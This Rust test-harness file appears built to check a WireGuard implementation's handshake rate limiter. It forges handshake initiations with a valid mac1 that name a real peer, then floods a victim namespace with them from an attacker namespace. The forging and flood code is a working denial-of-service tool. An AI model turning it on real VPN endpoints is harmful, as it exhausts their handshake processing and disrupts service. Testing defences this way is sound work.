//! A third host that knows only public keys, as anyone watching the wire or
//! reading a shared config does: it forges WireGuard handshake initiations
//! that name a real peer, with a valid mac1, and floods a tunnel with them.
//!
//! The message is built from the WireGuard paper (section 5.4.2, "First
//! Message: Initiator to Responder", and 5.4.4, "Cookie MACs"), not from
//! boringtun: only the responder's public key is needed up to the encrypted
//! static key. The timestamp after it needs the claimed peer's private key,
//! so it is noise, which the responder finds out only after a second
//! Diffie-Hellman: the work the rate limiter is there to ration.

use std::{
    net::{SocketAddr, UdpSocket},
    process::Command,
    time::{Duration, Instant},
};

use blake2::{digest::consts::U16, Blake2s256, Blake2sMac, Digest};
use boringtun::x25519;
use chacha20poly1305::{
    aead::{Aead, Payload},
    ChaCha20Poly1305, KeyInit,
};
use hmac::{Mac, SimpleHmac};

use super::Netns;

const CONSTRUCTION: &[u8] = b"Noise_IKpsk2_25519_ChaChaPoly_BLAKE2s";
const IDENTIFIER: &[u8] = b"WireGuard v1 zx2c4 Jason@zx2c4.com";
const LABEL_MAC1: &[u8] = b"mac1----";
/// WireGuard message types (paper, section 5.4).
pub const INITIATION: u8 = 1;
pub const COOKIE_REPLY: u8 = 3;

/// The attacker's address, on a link of its own to the victim's host.
pub const ATTACKER_UNDERLAY: &str = "192.168.78.1";
/// The victim's address on that link.
pub const VICTIM_UNDERLAY: &str = "192.168.78.2";

fn hash(parts: &[&[u8]]) -> [u8; 32] {
    let mut hash = Blake2s256::new();
    for part in parts {
        hash.update(part);
    }
    hash.finalize().into()
}

fn hmac_blake2s(key: &[u8], parts: &[&[u8]]) -> [u8; 32] {
    let mut mac = <SimpleHmac<Blake2s256> as Mac>::new_from_slice(key).unwrap();
    for part in parts {
        mac.update(part);
    }
    mac.finalize().into_bytes().into()
}

/// The paper's KDF2: two keys from a chaining key and an input.
fn kdf2(chaining: &[u8; 32], input: &[u8]) -> ([u8; 32], [u8; 32]) {
    let prk = hmac_blake2s(chaining, &[input]);
    let first = hmac_blake2s(&prk, &[&[1]]);
    let second = hmac_blake2s(&prk, &[&first, &[2]]);
    (first, second)
}

/// An initiation to `responder` that claims to come from `claimed`, with a
/// valid mac1 and no mac2 (148 bytes, as the paper lays it out).
pub fn forged_initiation(responder: &[u8; 32], claimed: &[u8; 32]) -> [u8; 148] {
    let chaining = hash(&[CONSTRUCTION]);
    let transcript = hash(&[&hash(&[&chaining, IDENTIFIER]), responder]);
    let ephemeral = x25519::StaticSecret::from(rand::random::<[u8; 32]>());
    let ephemeral_public = x25519::PublicKey::from(&ephemeral);
    let (chaining, _) = kdf2(&chaining, ephemeral_public.as_bytes());
    let transcript = hash(&[&transcript, ephemeral_public.as_bytes()]);
    let shared = ephemeral.diffie_hellman(&x25519::PublicKey::from(*responder));
    let (_, key) = kdf2(&chaining, shared.as_bytes());
    let sealed_static = ChaCha20Poly1305::new(&key.into())
        .encrypt(
            &[0u8; 12].into(),
            Payload {
                msg: claimed,
                aad: &transcript,
            },
        )
        .expect("sealing 32 bytes");

    let mut message = [0u8; 148];
    message[0] = INITIATION;
    message[4..8].copy_from_slice(&rand::random::<[u8; 4]>());
    message[8..40].copy_from_slice(ephemeral_public.as_bytes());
    message[40..88].copy_from_slice(&sealed_static);
    message[88..116].copy_from_slice(&rand::random::<[u8; 28]>());
    let mac1_key = hash(&[LABEL_MAC1, responder]);
    let mut mac1 = <Blake2sMac<U16> as Mac>::new_from_slice(&mac1_key).unwrap();
    mac1.update(&message[..116]);
    message[116..132].copy_from_slice(&mac1.finalize().into_bytes());
    message
}

/// What came back to the attacker during a flood.
#[derive(Debug, Default)]
pub struct FloodReport {
    pub sent: u64,
    pub cookie_replies: u64,
    /// Any other datagram: the victim talking to the attacker as if it
    /// were the peer (a handshake, a keepalive, tunnel traffic).
    pub other: Vec<(u8, usize)>,
}

/// A namespace joined to the victim's host by a veth link of its own.
pub struct Attacker {
    pub ns: Netns,
}

impl Attacker {
    pub fn beside(victim: &Netns) -> Self {
        let ns = Netns::new();
        crate::run_ok(
            "veth to the attacker",
            Command::new("ip").args([
                "link",
                "add",
                "vx",
                "netns",
                &ns.name,
                "type",
                "veth",
                "peer",
                "name",
                "vy",
                "netns",
                &victim.name,
            ]),
        );
        for (host, dev, address) in [
            (&ns, "vx", ATTACKER_UNDERLAY),
            (victim, "vy", VICTIM_UNDERLAY),
        ] {
            host.ip(&format!("addr add {address}/24 dev {dev}"));
            host.ip(&format!("link set {dev} up"));
        }
        Self { ns }
    }

    /// Sends forged initiations to `to` at `per_second` for `duration`,
    /// from one socket, and sorts what comes back.
    pub fn flood_initiations(
        &self,
        to: SocketAddr,
        responder: &[u8; 32],
        claimed: &[u8; 32],
        duration: Duration,
        per_second: u32,
    ) -> FloodReport {
        const TICK: Duration = Duration::from_millis(10);
        let per_tick = (per_second / 100).max(1);
        // Forging costs two scalar multiplications; a pool keeps the
        // attacker's rate independent of this machine's speed. Every third
        // message names a key the victim does not know, as a scan would:
        // those are counted by the rate limiter but reach no peer, so a
        // limiter that counts the others twice sees every parity of count.
        let pool: Vec<[u8; 148]> = (0..255)
            .map(|i| match i % 3 {
                2 => forged_initiation(responder, &rand::random()),
                _ => forged_initiation(responder, claimed),
            })
            .collect();
        self.ns.run(|| {
            let socket = UdpSocket::bind("0.0.0.0:0").unwrap();
            socket.set_nonblocking(true).unwrap();
            let mut report = FloodReport::default();
            let mut buf = [0u8; 2048];
            let start = Instant::now();
            let mut next = start;
            while start.elapsed() < duration {
                for _ in 0..per_tick {
                    let message = &pool[report.sent as usize % pool.len()];
                    if socket.send_to(message, to).is_ok() {
                        report.sent += 1;
                    }
                }
                while let Ok((len, _)) = socket.recv_from(&mut buf) {
                    match buf[0] {
                        COOKIE_REPLY => report.cookie_replies += 1,
                        kind => report.other.push((kind, len)),
                    }
                }
                next += TICK;
                std::thread::sleep(next.saturating_duration_since(Instant::now()));
            }
            report
        })
    }
}

#[cfg(test)]
mod tests {
    use boringtun::noise::{
        handshake::parse_handshake_anon, rate_limiter::RateLimiter, Packet, TunnResult,
    };

    use super::*;

    /// boringtun, as the responder, reads the forged message as we meant
    /// it: a valid mac1, and the claimed peer's key in the sealed static.
    #[test]
    fn a_forged_initiation_names_the_claimed_peer_to_boringtun() {
        let responder = x25519::StaticSecret::from(rand::random::<[u8; 32]>());
        let responder_public = x25519::PublicKey::from(&responder);
        let claimed = rand::random::<[u8; 32]>();
        let message = forged_initiation(responder_public.as_bytes(), &claimed);

        let limiter = RateLimiter::new(&responder_public, 100);
        let mut cookie = [0u8; 64];
        let packet = match limiter.verify_packet(None, &message, &mut cookie) {
            Ok(packet) => packet,
            Err(TunnResult::Err(e)) => panic!("refused: {e:?}"),
            Err(_) => panic!("refused"),
        };
        let Packet::HandshakeInit(init) = packet else {
            panic!("not an initiation")
        };
        let half = parse_handshake_anon(&responder, &responder_public, &init).unwrap();
        assert_eq!(half.peer_static_public, claimed);

        let mut broken = message;
        broken[120] ^= 1;
        assert!(limiter.verify_packet(None, &broken, &mut cookie).is_err());
    }
}
